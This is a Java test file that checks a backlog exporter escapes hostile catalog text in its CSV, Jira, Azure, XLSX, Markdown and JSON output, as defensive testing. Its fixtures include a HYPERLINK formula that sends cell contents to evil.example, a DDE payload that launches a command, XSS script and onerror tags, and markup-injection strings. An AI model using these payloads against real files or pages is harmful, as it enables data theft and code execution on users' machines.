package dev.lacuna.question.backlog;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.lacuna.catalog.Catalog;
import dev.lacuna.catalog.Evidence;
import dev.lacuna.catalog.Feature;
import dev.lacuna.catalog.Level;
import dev.lacuna.catalog.Platform;
import dev.lacuna.catalog.Platform.Area;
import dev.lacuna.catalog.Platform.Facet;
import dev.lacuna.catalog.Platform.Owner;
import dev.lacuna.catalog.Requirement;
import dev.lacuna.catalog.Scope;
import dev.lacuna.catalog.Target;
import dev.lacuna.output.format.Format;
import dev.lacuna.output.format.Formats;
import dev.lacuna.output.format.OutputMedium;
import dev.lacuna.output.spreadsheet.Xlsx;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A stranger's catalog cannot do more in any file than be read. */
class HostileBacklogTest {
    private static final String AREA = "=HYPERLINK(\"http://evil.example/?\"&A1)";

    private static final List<String> TEXTS = List.of(
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "  =1+1",
            "-1 @somebody #12 !34 GH-5 owner/repo#6 [~accountid:1] 0123456789abcdef0123456789abcdef01234567",
            "{code}x{code} [click|http://evil.example] !image.png! *b* _i_ -d- h1. no \\\\ {adf}{}{adf} &#91;x&#93; :) (!)",
            "bq. quoted",
            "<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; \" '",
            "a,b;c\td\r\n\"e\"\n+f",
            "\u202eturned \u0000 \ufeff \uffff \ud800");

    private static final WorkBacklog BACKLOG = Backlogs.of(catalog());
    private static final BacklogReport REPORT = new BacklogReport(BACKLOG);

    private static Catalog catalog() {
        List<Feature> features = new ArrayList<>();
        List<String> ids = new ArrayList<>();
        for (String text : TEXTS) {
            ids.add("f" + ids.size());
            Evidence evidence = new Evidence(null, null, text, text, text, null, null);
            features.add(new Feature(
                    "f" + features.size(),
                    text,
                    "area",
                    text,
                    Scope.CLUSTER,
                    Map.of(),
                    List.of(),
                    List.of(),
                    "o" + features.size(),
                    null,
                    Map.of(),
                    List.of(evidence),
                    text));
        }
        List<Owner> owners = new ArrayList<>();
        TEXTS.forEach(text -> owners.add(new Owner("o" + owners.size(), text)));
        Requirement requirement = new Requirement(
                "R-1",
                TEXTS.get(3),
                ids,
                null,
                null,
                "configuration",
                Scope.TENANT,
                Level.MANDATORY,
                List.of(),
                TEXTS.get(2),
                List.of());
        Platform platform = new Platform(
                "evil",
                AREA,
                null,
                List.of(new Facet("configuration", null, true)),
                List.of(new Area("area", AREA)),
                List.of(),
                owners,
                List.of());
        return Catalog.of(platform)
                .features(features)
                .targets(List.of(new Target("t", AREA, null, List.of(), List.of(requirement))))
                .build();
    }

    private static List<CsvRecord> records(String format) {
        return CsvReader.builder().ofCsvRecord(Formats.of(format).write(REPORT, OutputMedium.PLAIN)).stream()
                .toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "jira-csv", "azure-csv"})
    void everyRowOfCsvHasTheFieldsOfItsHeaderAndNoneIsCalculated(String format) {
        List<CsvRecord> records = records(format);
        assertThat(records).hasSizeGreaterThan(TEXTS.size());
        for (CsvRecord found : records) {
            assertThat(found.getFieldCount()).isEqualTo(records.get(0).getFieldCount());
            assertThat(found.getFields())
                    .allSatisfy(field -> assertThat(field.strip())
                            .doesNotStartWith("=")
                            .doesNotStartWith("+")
                            .doesNotStartWith("-")
                            .doesNotStartWith("@"));
        }
    }

    @Test
    void theSpreadsheetIsSoundXmlWithoutFormulasAndLinksOnlyToItself() {
        Xlsx xlsx = Xlsx.read(Formats.of("xlsx").files(REPORT).get(0));
        assertThat(xlsx.formulas()).isEmpty();
        for (int sheet = 1; sheet <= xlsx.sheets().size(); sheet++) {
            assertThat(xlsx.cells(sheet).values())
                    .allSatisfy(value ->
                            assertThat(value.strip()).doesNotStartWith("=").doesNotStartWith("@"));
            assertThat(Xlsx.elements(xlsx.sheet(sheet), "hyperlink"))
                    .allSatisfy(
                            link -> assertThat(link.getAttribute("location")).startsWith("'"));
        }
        assertThat(xlsx.entries().keySet()).noneMatch(entry -> entry.endsWith(".bin"));
    }

    /** Whatever the notation gives a meaning to is escaped, but for the headings, bullets and two lines of our own. */
    @Test
    void nothingBecomesMarkupInJira() {
        Pattern active =
                Pattern.compile("(?<!\\\\)[\\[\\]{}|!^~?*@%]|(?<![\\\\&])#|\\\\\\\\|&#?\\w+;(?<!&#\\d{2};|&amp;)");
        for (CsvRecord found :
                records("jira-csv").subList(1, records("jira-csv").size())) {
            List<String> lines = found.getField(4).lines().toList();
            assertThat(lines.get(0)).matches("\\{\\{lacuna:v1 id=evil/[^{} ]+ target=t state=open [^{}]*}}");
            assertThat(lines.get(lines.size() - 1)).startsWith("{{lacuna:v1 end}} Kept by Lacuna");
            lines.subList(1, lines.size() - 1).forEach(line -> {
                String text = line.replaceFirst("^(h3\\.|\\*) ", "");
                assertThat(active.matcher(text).find()).as(text).isFalse();
                assertThat(text).doesNotMatch("(bq|h[1-6])\\..*").doesNotContain(":)", "(!)");
            });
        }
    }

    @Test
    void nothingBecomesATagOrAMentionInAzure() {
        for (CsvRecord found :
                records("azure-csv").subList(1, records("azure-csv").size())) {
            String html = found.getField(5).replaceAll("</?(h3|p|ul|li)>", "");
            assertThat(html).doesNotContain("<", ">").doesNotContainPattern("[@#!](?!39;)[\\p{L}\\p{N}]");
            assertThat(found.getField(5)).doesNotContain("\n");
        }
    }

    @Test
    void nothingBecomesALinkAnImageOrHtmlInMarkdown() {
        String markdown = Formats.of("markdown").write(REPORT, OutputMedium.PLAIN);
        List<String> active = new ArrayList<>();
        Parser.builder().build().parse(markdown).accept(new AbstractVisitor() {
            @Override
            public void visit(Link link) {
                active.add(link.getDestination());
            }

            @Override
            public void visit(Image image) {
                active.add(image.getDestination());
            }

            @Override
            public void visit(HtmlInline html) {
                active.add(html.getLiteral());
            }

            @Override
            public void visit(HtmlBlock html) {
                active.add(html.getLiteral());
            }
        });
        assertThat(active).allMatch(literal -> literal.equals("<!-- -->"));
        assertThat(markdown).contains("`@somebody`", "`#12`", "`!34`");
    }

    @Test
    void jsonHoldsTheTextsAndNothingElse() throws Exception {
        JsonNode json = new ObjectMapper().readTree(Formats.of("json").write(REPORT, OutputMedium.PLAIN));
        assertThat(json.get("items")).hasSize(TEXTS.size());
        assertThat(json.get("items").findValuesAsText("says")).contains(TEXTS.get(0));
    }

    /** The counts are those of the one result. */
    @Test
    void everyFormatShowsAsManyItems() {
        int all = BACKLOG.items().size();
        assertThat(records("csv")).hasSize(1 + all);
        assertThat(records("jira-csv")).hasSize(1 + BACKLOG.epics().size() + all);
        assertThat(records("azure-csv")).hasSize(1 + BACKLOG.epics().size() + all);
        assertThat(Formats.of("markdown")
                        .write(REPORT, OutputMedium.PLAIN)
                        .lines()
                        .filter(line -> line.startsWith("### ")))
                .hasSize(all);
        assertThat(Xlsx.read(Formats.of("xlsx").files(REPORT).get(0)).cells(1).keySet().stream()
                        .filter(cell -> cell.matches("A\\d+")))
                .hasSize(1 + all);
    }

    @ParameterizedTest
    @ValueSource(strings = {"text", "markdown", "json", "csv", "xlsx", "jira-csv", "azure-csv"})
    void theSameCatalogGivesTheSameBytes(String id) {
        Format format = Formats.of(id);
        List<String> once = text(format.files(REPORT));
        assertThat(text(format.files(new BacklogReport(Backlogs.of(catalog())))))
                .isEqualTo(once);
    }

    private static List<String> text(List<byte[]> files) {
        return files.stream()
                .map(file -> new String(file, StandardCharsets.ISO_8859_1))
                .toList();
    }
}
